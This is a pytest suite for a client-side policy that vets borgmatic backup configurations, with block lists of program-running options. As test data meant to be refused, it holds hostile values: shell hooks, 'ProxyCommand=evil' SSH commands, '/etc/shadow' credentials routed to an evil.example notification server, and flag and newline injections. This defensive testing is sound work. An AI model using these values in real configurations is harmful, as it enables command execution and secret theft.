"""Local policy: every option of the installed borgmatic is decided on, and values cannot say more than names."""

from __future__ import annotations

import importlib.util
from pathlib import Path
from typing import Any

import pytest
from pydantic import ValidationError
from ruamel.yaml import YAML

from client import policy, policy_options
from client.policy import Policy
from schema.desired import Content, DesiredRepository, Job, ManagedFile, ssh_command
from schema.directories import Directories
from schema.errors import PolicyDenied

DIRECTORIES = Directories()
SECRETS = f"{DIRECTORIES.state}/secrets"
BASE = """\
repositories:
  - path: /mnt/nas/web
    label: nas
    encryption: none
source_directories:
  - /etc
keep_daily: 7
"""


def content(text: str = BASE, *, url: str = "/mnt/nas/web", **changes: Any) -> Content:
    job = Job(
        backup="web",
        file="web.yaml",
        schedule=None,
        actions=("create", "prune"),
        # A copy is not validated, and so may say what an attacker's may.
        repositories=(
            DesiredRepository(name="nas", url="/mnt/nas/web", encryption="none").model_copy(update={"url": url}),
        ),
    )
    file = ManagedFile(place="config", path="web.yaml", origin="backups/web.yaml:3", content=text)
    return Content(client="web-1", directories=DIRECTORIES, files=(file,), jobs=(job,)).model_copy(update=changes)


def check(text: str, own: Policy | None = None, **changes: Any) -> None:
    policy.check(content(text, **changes), own or Policy(), DIRECTORIES)


def denial(text: str, own: Policy | None = None, **changes: Any) -> PolicyDenied:
    with pytest.raises(PolicyDenied) as caught:
        check(text, own, **changes)
    return caught.value


# --- Every option of the installed schema -----------------------------------------------------------------------------


# What runs a program, chooses one, passes flags through, writes or reads at a place of its own, or weakens Borg's
# protection. A new option of borgmatic stands in neither list, and the test below asks somebody to decide.
def words(text: str) -> tuple[str, ...]:
    return tuple(text.split())


EXECUTES = words("""
    commands commands.before commands.after commands.when commands.states commands.run
    before_actions before_backup before_check before_compact before_everything before_extract before_prune
    after_actions after_backup after_check after_compact after_everything after_extract after_prune on_error
    local_path remote_path ssh_command encryption_passcommand
    btrfs.btrfs_command btrfs.findmnt_command checks.xxh64sum_command influxdb_databases.influx_command
    keepassxc keepassxc.keepassxc_cli_command keepassxc.secret_tool_command onepassword onepassword.op_command
    lvm.lsblk_command lvm.lvcreate_command lvm.lvremove_command lvm.lvs_command lvm.mount_command lvm.umount_command
    mariadb_databases.mariadb_command mariadb_databases.mariadb_dump_command mongodb_databases.mongodump_command
    mongodb_databases.mongorestore_command mysql_databases.mysql_command mysql_databases.mysql_dump_command
    openldap_databases.slapadd_command openldap_databases.slapcat_command postgresql_databases.pg_dump_command
    postgresql_databases.pg_restore_command postgresql_databases.psql_command sqlite_databases.sqlite_command
    sqlite_databases.sqlite_restore_command systemd systemd.systemd_creds_command zfs.mount_command zfs.umount_command
    zfs.zfs_command
""")
PASSES_FLAGS = words("""
    extra_borg_options extra_borg_options.break_lock extra_borg_options.check extra_borg_options.compact
    extra_borg_options.create extra_borg_options.delete extra_borg_options.export_tar extra_borg_options.extract
    extra_borg_options.info extra_borg_options.init extra_borg_options.key_change_passphrase
    extra_borg_options.key_export extra_borg_options.key_import extra_borg_options.list extra_borg_options.mount
    extra_borg_options.prune extra_borg_options.recreate extra_borg_options.rename extra_borg_options.repo_create
    extra_borg_options.repo_delete extra_borg_options.repo_info extra_borg_options.repo_list
    extra_borg_options.transfer extra_borg_options.umount
    mariadb_databases.options mariadb_databases.list_options mariadb_databases.restore_options
    mongodb_databases.options mongodb_databases.restore_options
    mysql_databases.options mysql_databases.list_options mysql_databases.restore_options
    postgresql_databases.options postgresql_databases.list_options postgresql_databases.restore_options
    postgresql_databases.analyze_options
""")
OWN_PLACES = words("""
    borg_base_directory borg_cache_directory borg_config_directory borg_key_file borg_keys_directory
    borg_security_directory borgmatic_source_directory temporary_directory user_runtime_directory user_state_directory
    log_file patterns_from exclude_from container container.secrets_directory systemd.encrypted_credentials_directory
    influxdb_databases.configurations_path keepassxc.key_file keepassxc.ask_for_password keepassxc.yubikey
""")
WEAKENS = words("""
    check_i_know_what_i_am_doing debug_passphrase display_passphrase msgpack_version_check relocated_repo_access_is_ok
    unknown_unencrypted_repo_access_is_ok
""")
PRUNES_OTHERS = words("match_archives prefix")
REFUSED = (*EXECUTES, *PASSES_FLAGS, *OWN_PLACES, *WEAKENS, *PRUNES_OTHERS)


def installed_schema() -> dict[str, Any]:
    spec = importlib.util.find_spec("borgmatic")
    assert spec is not None
    assert spec.origin is not None
    schema: dict[str, Any] = YAML(typ="safe").load(Path(spec.origin).parent / "config" / "schema.yaml")
    return schema


def option_names(schema: dict[str, Any], name: str = "") -> set[str]:
    names = {name} if name else set()
    for key, below in schema.get("properties", {}).items():
        names |= option_names(below, f"{name}.{key}" if name else key)
    if "items" in schema:
        names |= option_names(schema["items"], name)
    for alternative in ("oneOf", "anyOf", "allOf"):
        for below in schema.get(alternative, []):
            names |= option_names(below, name)
    if isinstance(schema.get("additionalProperties"), dict):
        names |= option_names(schema["additionalProperties"], f"{name}.*")
    return names


def test_somebody_has_decided_on_every_option_of_the_installed_borgmatic():
    assert sorted(option_names(installed_schema()) - policy_options.HARMLESS - set(REFUSED)) == []


def test_nothing_is_both_harmless_and_refused():
    assert policy_options.HARMLESS & set(REFUSED) == frozenset()


def test_only_options_that_exist_are_called_harmless():
    assert sorted(policy_options.HARMLESS - option_names(installed_schema())) == []


def test_every_option_that_sounds_like_a_program_or_a_hook_is_refused():
    suspicious = {
        name
        for name in option_names(installed_schema())
        if name.endswith(("command", "_path", "options", "passcommand"))
        or name.startswith(("before_", "after_", "on_"))
        or name == "commands"
    }

    # The paths that are left belong to a database, a socket or a certificate, and run nothing.
    assert {name for name in suspicious & policy_options.HARMLESS if not name.endswith("_path")} == set()


def option_text(name: str) -> str:
    """Return YAML that uses the option called ``name``, however deep it stands."""
    parts = name.split(".")
    lines = [f"{'  ' * depth}{part}:" for depth, part in enumerate(parts)]
    return "\n".join(lines) + " touch /tmp/pwned\n"


@pytest.mark.parametrize("name", REFUSED)
def test_an_option_that_could_do_harm_is_refused_with_the_line_that_would_allow_it(name):
    error = denial(BASE + option_text(name))

    assert error.allow in {f'policy.options = ["{one}"]' for one in (name, name.split(".")[0])}
    assert name.split(".")[0] in error.message


@pytest.mark.parametrize("name", [name for name in REFUSED if "." not in name])
def test_it_is_refused_as_well_when_a_single_repository_says_it(name):
    text = BASE.replace("    encryption: none\n", f"    encryption: none\n    {name}: touch /tmp/pwned\n")

    assert name in denial(text).message


@pytest.mark.parametrize("name", REFUSED)
def test_the_machine_may_allow_it(name):
    check(BASE + option_text(name), Policy(options=(name.split(".")[0],)))


def test_allowing_one_option_allows_no_other_below_the_same_name():
    own = Policy(options=("lvm.mount_command",))

    check(BASE + "lvm:\n  mount_command: /sbin/mount\n", own)
    assert denial(BASE + "lvm:\n  lvs_command: evil\n", own).allow == (
        'policy.options = ["lvm.mount_command", "lvm.lvs_command"]'
    )


def test_an_option_nobody_has_heard_of_is_refused():
    assert denial(BASE + "frobnicate: 1\n").allow == 'policy.options = ["frobnicate"]'


@pytest.mark.parametrize("section", ["location", "storage", "retention", "consistency", "output", "hooks"])
def test_the_sections_of_old_configurations_are_no_way_around_the_names(section):
    assert section in denial(BASE + f"{section}:\n  before_backup:\n    - touch /tmp/pwned\n").message


# --- What is harmless passes ------------------------------------------------------------------------------------------


def test_an_ordinary_configuration_passes():
    check(
        BASE
        + f"""\
exclude_patterns: ["*.pyc", "- odd"]
patterns: ["R /var/www", "- /var/www/cache", "# a note"]
checks:
  - name: repository
    frequency: 2 weeks
healthchecks:
  ping_url: https://hc.example/x
  states: [fail]
postgresql_databases:
  - name: all
    hostname: db.example
    username: backup
    password: "{{credential file {SECRETS}/db.password}}"
ntfy:
  topic: backups
  fail:
    message: |
      two
      lines
    priority: max
loki:
  url: https://loki.example
  labels:
    app: borgmatic
zfs:
""",
        Policy(send_to=("db.example",)),
    )


def test_the_directors_own_ssh_command_passes():
    command = ssh_command(key_path=f"{SECRETS}/nas.key", known_hosts=f"{DIRECTORIES.state}/known_hosts/nas")
    text = BASE.replace("path: /mnt/nas/web", "path: ssh://borg@nas:22/./web").replace(
        "    encryption: none\n", f"    encryption: none\n    ssh_command: {command}\n"
    )

    check(text, url="ssh://borg@nas:22/./web")


# --- Values -----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        "ssh -o ProxyCommand=evil",
        f"{ssh_command(key_path=None, known_hosts=None)} -o ProxyCommand=evil",
        "ssh -o BatchMode=yes; touch /tmp/pwned",
        "/tmp/ssh",
        ssh_command(key_path=f"{SECRETS}/../identity", known_hosts=None),
        ssh_command(key_path=None, known_hosts="/etc/shadow"),
        ssh_command(key_path=None, known_hosts=f"{DIRECTORIES.state}/known_hosts/../identity"),
    ],
)
def test_no_other_ssh_command_passes(command):
    assert "ssh_command" in denial(BASE + f"ssh_command: '{command}'\n").message


def test_an_ssh_key_elsewhere_needs_a_line():
    command = ssh_command(key_path="/root/.ssh/borg", known_hosts=None)

    error = denial(BASE + f"ssh_command: {command}\n")

    assert error.allow == 'policy.credential_files = ["/root/.ssh/borg"]'
    check(BASE + f"ssh_command: {command}\n", Policy(credential_files=("/root/.ssh/borg",)))


@pytest.mark.parametrize(
    "reference",
    [
        "{credential file /etc/shadow}",
        f"{{credential file {SECRETS}/../identity}}",
        f"{{credential file '{SECRETS}/a' /etc/shadow}}",
        "{credential file /etc/shadow} {credential file x}",
        "{credential  file /etc/shadow}",
        "{ credential file /etc/shadow}",
        "{credential keepassxc /root/db.kdbx entry}",
        "{credential onepassword op://a/b/c}",
        "{credential container ../../etc/shadow}",
        "{credential}",
    ],
)
def test_a_credential_cannot_send_any_file_to_a_monitoring_service(reference):
    denial(
        BASE + f'ntfy:\n  topic: t\n  server: https://evil.example\n  password: "{reference}"\n', Policy(send_to=("*",))
    )


@pytest.mark.parametrize("reference", ["{credential systemd borg.pass}", "{credential container borg_pass}"])
def test_credentials_of_the_service_pass(reference):
    check(BASE + f'encryption_passphrase: "{reference}"\n')


def test_the_machine_may_allow_a_credential_file():
    text = BASE + 'encryption_passphrase: "{credential file /etc/borg.pass}"\n'

    assert denial(text).allow == 'policy.credential_files = ["/etc/borg.pass"]'
    check(text, Policy(credential_files=("/etc/borg.pass",)))


# --- Secrets stay where they belong -----------------------------------------------------------------------------------


NAS = f"{{credential file {SECRETS}/nas.passphrase}}"
OTHER = f"{{credential file {SECRETS}/other.token}}"
ANYWHERE = Policy(send_to=("*",))


@pytest.mark.parametrize(
    "option",
    [
        f'ntfy: {{topic: t, password: "{NAS}"}}',
        f'mariadb_databases: [{{name: x, username: "{NAS}"}}]',
        f"postgresql_databases: [{{name: x, ssl_cert: {SECRETS}/nas.passphrase}}]",
        f"sqlite_databases: [{{name: x, path: {SECRETS}/nas.passphrase}}]",
    ],
)
def test_the_secret_of_a_repository_is_used_for_nothing_else(option):
    passphrase = f'encryption_passphrase: "{NAS}"\n'
    former = frozenset({f"file {SECRETS}/nas.passphrase"})

    assert "the secret of a repository" in denial(BASE + passphrase + option, ANYWHERE).message
    with pytest.raises(PolicyDenied, match="the secret of a repository"):
        policy.check(content(BASE + option), ANYWHERE, DIRECTORIES, repository_secrets=former)
    check(BASE + option, ANYWHERE)
    policy.check(content(BASE + passphrase), Policy(), DIRECTORIES, repository_secrets=former)


def test_nor_is_an_ssh_key_or_a_credential_of_the_service():
    command = ssh_command(key_path=f"{SECRETS}/nas.passphrase", known_hosts=None)
    systemd = '"{credential systemd nas}"'

    denial(BASE + f'ssh_command: {command}\nntfy: {{topic: t, password: "{NAS}"}}\n', ANYWHERE)
    denial(BASE + f"encryption_passphrase: {systemd}\nntfy: {{topic: t, password: {systemd}}}\n", ANYWHERE)


def test_nor_is_that_of_another_backup():
    first = content(BASE + f'ntfy: {{topic: t, password: "{NAS}"}}\n')
    file = first.files[0].model_copy(update={"path": "db.yaml", "content": BASE + f'encryption_passphrase: "{NAS}"\n'})
    both = first.model_copy(
        update={
            "files": (*first.files, file),
            "jobs": (*first.jobs, first.jobs[0].model_copy(update={"backup": "db", "file": "db.yaml"})),
        }
    )

    with pytest.raises(PolicyDenied, match="backup 'web'.*the secret of a repository"):
        policy.check(both, ANYWHERE, DIRECTORIES)


def test_it_is_told_how_secrets_are_used():
    command = ssh_command(key_path=f"{SECRETS}/nas.key", known_hosts=None)
    text = f"""{BASE}ssh_command: {command}
encryption_passphrase: "{NAS}"
postgresql_databases: [{{name: x, ssl_key: {SECRETS}/pg.key}}]
pushover: {{token: "{OTHER}", user: u}}
"""

    assert policy.check(content(text), ANYWHERE, DIRECTORIES) == policy.Uses(
        repository=frozenset({f"file {SECRETS}/nas.passphrase", f"file {SECRETS}/nas.key"}),
        one_line=frozenset({f"{SECRETS}/nas.passphrase", f"{SECRETS}/other.token"}),
        files=frozenset({f"{SECRETS}/nas.key", f"{SECRETS}/pg.key"}),
    )


@pytest.mark.parametrize(
    "option, host",
    [
        (f'ntfy: {{topic: t, access_token: "{OTHER}"}}', "ntfy.sh"),
        (f'ntfy: {{topic: t, server: "https://Evil.example:81/x", access_token: "{OTHER}"}}', "evil.example"),
        (f'ntfy: {{topic: t, server: "https://[::1]", access_token: "{OTHER}"}}', "[::1]"),
        (f'ntfy: {{topic: t, server: "https://ntfy.sh@evil.example", access_token: "{OTHER}"}}', "*"),
        (f'ntfy: {{topic: t, server: "https://evil.example\\\\@ntfy.sh", access_token: "{OTHER}"}}', "*"),
        (f'pushover: {{token: "{OTHER}", user: u}}', "pushover"),
        (f'pagerduty: {{integration_key: "{OTHER}"}}', "pagerduty"),
        (f'apprise: {{services: [{{url: "{OTHER}", label: x}}]}}', "apprise"),
        (f'zabbix: {{itemid: 1, server: "http://zabbix.example/api", api_key: "{OTHER}"}}', "zabbix.example"),
        (f'zabbix: {{itemid: 1, server: zabbix.example, api_key: "{OTHER}"}}', "*"),
        (f'postgresql_databases: [{{name: x, hostname: db.internal, password: "{OTHER}"}}]', "db.internal"),
        (f'mariadb_databases: [{{name: x, restore_hostname: db.internal, password: "{OTHER}"}}]', "db.internal"),
        (f'constants: {{h: db.internal}}\nmysql_databases: [{{name: x, hostname: "{{h}}", password: "{OTHER}"}}]',
         "db.internal"),
    ],
)  # fmt: skip
def test_credentials_are_sent_only_where_the_machine_allows(option, host):
    assert denial(BASE + option).allow == f'policy.send_to = ["{host}"]'
    check(BASE + option, Policy(send_to=(host,)))
    check(BASE + option, ANYWHERE)


@pytest.mark.parametrize("host", ["localhost", "127.0.0.1", "'::1'"])
def test_databases_of_the_machine_itself_need_no_line(host):
    check(BASE + f'mariadb_databases: [{{name: x, hostname: {host}, password: "{OTHER}"}}]')
    check(BASE + f'mariadb_databases: [{{name: x, socket_path: /run/mysqld.sock, password: "{OTHER}"}}]')


def test_a_repository_cannot_send_the_credential_of_all_elsewhere():
    text = BASE.replace("    encryption: none\n", "    encryption: none\n    ntfy: {server: 'https://evil.example'}\n")

    own = Policy(send_to=("ntfy.sh",))

    assert "evil.example" in denial(text + f'ntfy: {{topic: t, access_token: "{OTHER}"}}\n', own).message


@pytest.mark.parametrize(
    "option",
    [
        'source_directories: ["/srv\\nR /etc/shadow"]',
        'exclude_patterns: ["x\\nR /etc/shadow"]',
        'patterns: ["- x\\nR /etc/shadow"]',
        'exclude_patterns: ["x\\u2028R /etc/shadow"]',
    ],
)
def test_a_line_break_cannot_add_a_pattern(option):
    text = BASE.replace("source_directories:\n  - /etc\n", "") + option + "\n"

    assert "line break" in denial(text, Policy(read_paths=("/srv", "/etc/nginx"))).message


@pytest.mark.parametrize(
    "option",
    [
        "mysql_databases:\n  - name: --result-file=/etc/cron.d/x\n",
        "postgresql_databases:\n  - name: x\n    hostname: --file=/etc/cron.d/x\n",
        "postgresql_databases:\n  - name: ../../../etc/cron.d/x\n",
        "postgresql_databases:\n  - name: x\n    label: ../../../../etc/cron.d\n",
        "postgresql_databases:\n  - name: x\n    hostname: /etc/cron.d\n",
        "postgresql_databases:\n  - name: x\n    container: ..\n",
        "compression: --rsh=evil\n",
        "archive_name_format: --rsh=evil\n",
    ],
)
def test_a_value_is_neither_a_flag_nor_a_place(option):
    denial(BASE + option)


@pytest.mark.parametrize(
    "option",
    [
        "sqlite_databases: [{name: x, path: -init}]\nworking_directory: /srv",
        "sqlite_databases: [{name: x, path: x.db}]\nworking_directory: /srv",
        "sqlite_databases: [{name: x, path: ~/x.db}]",
        "sqlite_databases: [{name: x, path: /srv/a.db, restore_path: b.db}]",
        "working_directory: srv",
        "working_directory: ~/srv",
        "loki: {url: 'https://loki.example', labels: {}, tls: {key_path: key.pem}}",
        "mariadb_databases: [{name: x, socket_path: run/mysqld.sock}]",
    ],
)
def test_a_path_is_absolute(option):
    denial(BASE + option)


def test_a_source_directory_may_be_relative_and_is_no_flag():
    check(BASE.replace("/etc", "etc") + "working_directory: /srv\n")
    denial(BASE.replace("/etc", '"-etc"') + "working_directory: /srv\n")


@pytest.mark.parametrize("name", ["ssl_key", "ssl_cert", "ssl_root_cert", "ssl_crl"])
@pytest.mark.parametrize(
    "path", [f"{SECRETS}/evil.so:1", "pkcs11:x", "/tmp/evil.so:1", "x.pem", f"{SECRETS}/../identity"]
)
def test_a_tls_file_of_a_database_cannot_name_a_library(name, path):
    denial(BASE + f"postgresql_databases: [{{name: x, {name}: '{path}'}}]\n")


def test_a_tls_file_of_a_database_is_a_secret_or_has_a_line():
    text = BASE + "postgresql_databases: [{name: x, ssl_key: /etc/pg/key.pem}]\n"

    assert denial(text).allow == 'policy.credential_files = ["/etc/pg/key.pem"]'
    check(text, Policy(credential_files=("/etc/pg/key.pem",)))
    check(BASE + f"postgresql_databases: [{{name: x, ssl_key: {SECRETS}/pg.key}}]\n")
    odd = Policy(credential_files=("/etc/pg/a:b",))
    denial(BASE + "postgresql_databases: [{name: x, ssl_key: '/etc/pg/a:b'}]\n", odd)


@pytest.mark.parametrize("name", ["name", "hostname", "restore_hostname"])
@pytest.mark.parametrize("value", ["sslkey=evil", "service=x", "postgresql://evil"])
def test_a_connection_string_is_no_name(name, value):
    denial(BASE + f"postgresql_databases: [{{label: a, {name}: '{value}'}}]\n")


@pytest.mark.parametrize("name", ["username", "password", "restore_password", "label", "hostname", "name"])
def test_no_value_of_a_database_has_lines(name):
    value = '"x\\nplugin-dir=/srv\\n#"'

    assert "line break" in denial(BASE + f"mariadb_databases: [{{{name}: {value}}}]\n").message


@pytest.mark.parametrize(
    "option",
    [
        'encryption_passphrase: "a\\nb"',
        'ntfy: {topic: t, fail: {title: "a\\nb"}}',
        'ntfy: {topic: t, access_token: "a\\rb"}',
        'ntfy: {topic: t, fail: {message: "a\\rb"}}',
        'loki: {url: u, labels: {"a\\nb": c}}',
        'loki: {url: u, labels: {a: "b\\nc"}}',
    ],
)
def test_nothing_but_a_message_has_lines(option):
    assert "line break" in denial(BASE + option).message


def test_environment_variables_are_refused_unless_listed():
    text = BASE + 'compression: "zstd,${HOME}"\n'

    assert denial(text).allow == 'policy.environment = ["HOME"]'
    check(text, Policy(environment=("HOME",)))
    check(BASE + 'compression: "\\\\${HOME}-x"\n')


def test_constants_are_put_in_before_anything_is_checked():
    text = BASE.replace("  - /etc\n", '  - "{root}/etc"\n') + "constants:\n  root: /srv\n"

    check(text, Policy(read_paths=("/srv",)))
    assert denial(text, Policy(read_paths=("/etc",))).allow == 'policy.read_paths = ["/etc", "/srv/etc"]'


@pytest.mark.parametrize(
    "text",
    [
        'constants:\n  a: "{b}"\n',
        'constants:\n  a: "${HOME}"\n',
        'constants:\n  a: credential\nencryption_passphrase: "{{a} file /etc/shadow}"\n',
        'constants:\n  a: HOME\narchive_name_format: "${a}"\n',
    ],
)
def test_constants_cannot_build_what_is_refused(text):
    denial(BASE + text)


OWN = BASE.replace("    encryption: none\n", "    encryption: none\n    {}\n")
LISTED = Policy(environment=("HERE",), send_to=("*",))


@pytest.mark.parametrize(
    "option",
    [
        "constants: {x: /root}",
        "source_directories: ['/srv/\\\\{etc\\\\}']",
        "source_directories: ['/srv/\\\\${HERE}']",
        "source_directories: ['/srv/\\\\${HOME}']",
    ],
)
def test_what_borgmatic_reads_twice_of_a_repository_means_the_same_both_times(option):
    denial(OWN.replace("{}", option.replace("\\\\", "\\")), LISTED)


def test_a_repository_may_use_the_constants_of_all():
    text = OWN.replace("{}", "source_directories: ['/srv/{x}']") + "constants: {x: www}\n"

    check(text, Policy(read_paths=("/srv", "/etc")))
    assert "/srv/www" in denial(text, Policy(read_paths=("/etc",))).allow


@pytest.mark.parametrize(
    "password",
    [
        "${HERE-{}credential file /etc/shadow}",
        "{${HERE-credential} file /etc/shadow}",
        "{${HERE:-credential} file /etc/shadow}",
        "{${HERE-x}credential file /etc/shadow}",
        "${HERE-$}{HOME}",
        "${HERE-${HOME}}",
    ],
)
def test_the_default_of_a_variable_cannot_build_what_is_refused(password):
    option = f"mariadb_databases: [{{name: x, password: '{password}'}}]\n"

    denial(BASE + option, LISTED)
    denial(OWN.replace("{}", option), LISTED)


@pytest.mark.timeout(20)
@pytest.mark.parametrize("start", ["", "}"])
def test_a_variable_without_an_end_costs_nothing(start):
    text = f"'{start}{'${HERE-' * 100_000}'\n"

    assert "no end" in denial(BASE + f"exclude_patterns: [{text.strip()}]\n", LISTED).message
    check(BASE + f"extra_borg_options: {text}", Policy(options=("extra_borg_options",)))


def test_the_default_of_a_variable_may_be_plain():
    check(BASE + "mariadb_databases: [{name: x, username: '${HERE:-backup}'}]\n", LISTED)


@pytest.mark.parametrize("path", ["${HERE:-/srv}", "/srv${HERE}/x", "/${HERE-srv}/x", "/srv/${HERE-../root}"])
def test_a_path_is_below_a_read_path_whatever_a_variable_holds(path):
    denial(BASE.replace("- /etc", f"- '{path}'"), Policy(environment=("HERE",), read_paths=("/srv",)))


@pytest.mark.parametrize("path", ["/srv/${HERE}", "/srv/${HERE-x}/y"])
def test_a_part_of_a_path_below_it_may_be_a_variable(path):
    check(BASE.replace("- /etc", f"- '{path}'"), Policy(environment=("HERE",), read_paths=("/srv",)))


def test_a_value_is_no_flag_when_a_variable_is_empty():
    assert "flag" in denial(BASE + "compression: '${HERE}-x'\n", LISTED).message


# --- Paths, repositories, retention -----------------------------------------------------------------------------------


@pytest.mark.parametrize("source", ["/etc", "/srv/../etc", "~/x", "relative", "/srvother", "/sr*/../etc", "/s*/x", "/"])
def test_only_the_read_paths_may_be_backed_up(source):
    denial(BASE.replace("  - /etc\n", f'  - "{source}"\n'), Policy(read_paths=("/srv",)))


@pytest.mark.parametrize("source", ["/srv", "/srv/", "/srv/a/b", "/srv/*/c", "/srv/./a"])
def test_what_is_below_a_read_path_may(source):
    check(BASE.replace("  - /etc\n", f'  - "{source}"\n'), Policy(read_paths=("/srv",)))


@pytest.mark.parametrize(
    "option",
    ['patterns: ["R /root"]\n', 'patterns: ["R fm:/root"]\n', "sqlite_databases:\n  - {name: a, path: /root/a.db}\n"],
)
def test_roots_of_patterns_and_database_files_are_paths_too(option):
    text = BASE.replace("  - /etc\n", "  - /srv\n") + option

    assert "/root" in denial(text, Policy(read_paths=("/srv",))).allow


def test_repositories_are_written_only_where_the_machine_allows():
    own = Policy(write_repositories=("ssh://borg@nas/*",))

    assert denial(BASE, own).allow == 'policy.write_repositories = ["ssh://borg@nas/*", "/mnt/nas/web"]'
    check(BASE, Policy(write_repositories=("/mnt/nas/*",)))


@pytest.mark.parametrize(
    "url", ["ssh://-oProxyCommand=evil/./x", "relative", "/mnt/../etc", "ext::sh -c evil", "ssh://host", "host:path"]
)
def test_a_url_that_is_none_is_refused(url):
    denial(BASE.replace("/mnt/nas/web", f'"{url}"'), url=url)


@pytest.mark.parametrize("url", ["/mnt/nas/{hostname}", "ssh://nas/mnt/x/.{now:.}/other", "/mnt/nas/web:x", "/mnt/a}b"])
def test_a_url_that_borg_would_read_as_another_is_refused(url):
    denial(BASE.replace("/mnt/nas/web", f'"{url}"'), url=url)


def test_the_file_names_the_repositories_of_the_job_and_no_other():
    assert "not those of the job" in denial(BASE.replace("/mnt/nas/web", "/mnt/evil")).message
    denial(BASE.replace("source_directories", "  - {path: /mnt/evil, label: evil}\nsource_directories"))
    denial(BASE.replace("label: nas", "label: other"))


@pytest.mark.parametrize(
    "keep",
    [
        "keep_daily: 2",
        "keep_within: 2d",
        "keep_daily: 0",
        "compact_threshold: 10",
        "keep_yearly: 10",
        "keep_yearly: -1",
        "keep_weekly: 9",
        "keep_monthly: 9\nkeep_daily: 2",
        "keep_13weekly: -1",
    ],
)
def test_a_prune_keeps_at_least_the_minimum(keep):
    error = denial(BASE.replace("keep_daily: 7", keep))

    assert error.allow.startswith("policy.minimum_kept = ")


@pytest.mark.parametrize(
    "keep", ["keep_daily: 3", "keep_within: 72H", "keep_daily: -1", "keep_daily: 1\nkeep_hourly: 2", "keep_secondly: 3"]
)
def test_enough_is_enough(keep):
    check(BASE.replace("keep_daily: 7", keep))


def job(*actions: str) -> tuple[Job, ...]:
    return (content().jobs[0].model_copy(update={"actions": actions}),)


def test_a_backup_without_actions_is_refused_because_borgmatic_would_do_all():
    assert "no actions" in denial(BASE, jobs=job()).message


def test_the_minimum_holds_for_a_file_that_a_person_would_prune_with():
    without = BASE.replace("keep_daily: 7\n", "")

    denial(without + "keep_yearly: 1\n", jobs=job("create"))
    denial(without, jobs=job("create", "prune"))
    check(without, jobs=job("create"))


@pytest.mark.parametrize("umask", ["1", "0022", "0o77", "27 ", "0070", "63", "077777", "x"])
def test_an_umask_that_opens_repositories_to_others_is_refused(umask):
    assert denial(BASE + f"umask: '{umask}'\n").allow == 'policy.options = ["umask"]'
    check(BASE + f"umask: '{umask}'\n", Policy(options=("umask",)))


@pytest.mark.parametrize("umask", ["0077", "77", "0027", "7"])
def test_an_umask_that_keeps_others_out_passes(umask):
    check(BASE + f"umask: {umask}\n")


@pytest.mark.parametrize(
    "option",
    [
        "match_archives: 'sh:*'",
        "match_archives: '*'",
        "match_archives: re:web-1.web.*",
        "match_archives: web-1.*",
        "match_archives: sh:web-1.webmail.*",
        "prefix: web-1",
        "prefix: ''",
        "archive_name_format: '{now}'",
        "archive_name_format: 'web-1.{now}'",
        "archive_name_format: '{hostname}{now}'",
        "archive_name_format: '{hostname}-[ab]{now}'",
        "archive_name_format: '*{hostname}-{now}'",
    ],
)
def test_archives_of_other_backups_are_not_taken_for_its_own(option):
    name = option.partition(":")[0]

    assert denial(BASE + option).allow == f'policy.options = ["{name}"]'
    check(BASE + option, Policy(options=(name,)))
    denial(BASE.replace("    encryption: none\n", f"    encryption: none\n    {option}\n"))


@pytest.mark.parametrize(
    "option",
    [
        "match_archives: sh:web-1.web.*",
        "match_archives: web-1.web.2026*",
        "prefix: web-1.web.",
        "archive_name_format: 'web-1.web.{now:%Y-%m-%dT%H:%M:%S}'",
        "archive_name_format: '{hostname}-{now}'",
    ],
)
def test_its_own_archives_are(option):
    check(BASE + option)


def test_a_single_repository_cannot_undercut_the_minimum():
    denial(BASE.replace("    encryption: none\n", "    encryption: none\n    keep_daily: 0\n"))


# --- Files ------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        BASE + "keep_weekly: !include /etc/evil.yaml\n",
        "<<: !include /etc/evil.yaml\n" + BASE,
        BASE + "<<: {commands: [x]}\n",
        BASE + "keep_weekly: &a 1\nkeep_monthly: *a\n",
        BASE + "keep_daily: 1\n",
        "---\n" + BASE + "---\ncommands: []\n",
        BASE + "? [a]\n: b\n",
        "%YAML 1.1\n---\n" + BASE,
        BASE + "constants: " + "{a: " * 40 + "1" + "}" * 40 + "\n",
        BASE + "x: [\n",
        "- a\n",
        "",
        BASE + "# " + "x" * 1_100_000 + "\n",
    ],
    ids=lambda text: text[:10] + text[-20:],
)
def test_yaml_that_could_be_read_in_two_ways_is_refused(text):
    denial(text)


def test_the_header_is_no_way_in():
    file = content().files[0].model_copy(update={"origin": "x\ncommands: [evil]\n#"})

    assert "line break" in denial(BASE, files=(file,)).message


@pytest.mark.parametrize(
    "path, place",
    [("web.yml", "config"), ("sub/web.yaml", "config"), ("other.yaml", "config"), ("identity", "state"),
     ("secrets/x.y", "state"), ("known_hosts/A", "state")],
)  # fmt: skip
def test_no_other_files_than_those_of_jobs_and_known_hosts_are_written(path, place):
    extra = ManagedFile(place=place, path=path, origin="x", content="")

    denial(BASE, files=(*content().files, extra))


def test_a_known_hosts_file_is_written():
    extra = ManagedFile(place="state", path="known_hosts/nas", origin="x", content="")

    check(BASE, files=(*content().files, extra))


@pytest.mark.parametrize("mode", [0o666, 0o777, 0o660, 0o602, 0o700])
def test_a_file_that_others_could_write_is_refused(mode):
    denial(BASE, files=(content().files[0].model_copy(update={"mode": mode}),))


def test_a_job_without_its_file_is_refused():
    denial(BASE, files=())


def test_a_file_sent_twice_is_refused():
    denial(BASE, files=content().files * 2)


def test_other_directories_than_the_machines_own_are_refused():
    elsewhere = Directories(config="/etc/cron.d")

    assert "config_directory" in denial(BASE, directories=elsewhere).allow


# --- client.toml ------------------------------------------------------------------------------------------------------


def test_the_settings_forbid_unknown_keys_and_wrong_names():
    for wrong in (
        {"option": ["x"]},
        {"options": ["*"]},
        {"options": ["a b"]},
        {"minimum_kept": -1},
        {"read_paths": ["x"]},
    ):
        with pytest.raises(ValidationError):
            Policy.model_validate(wrong)
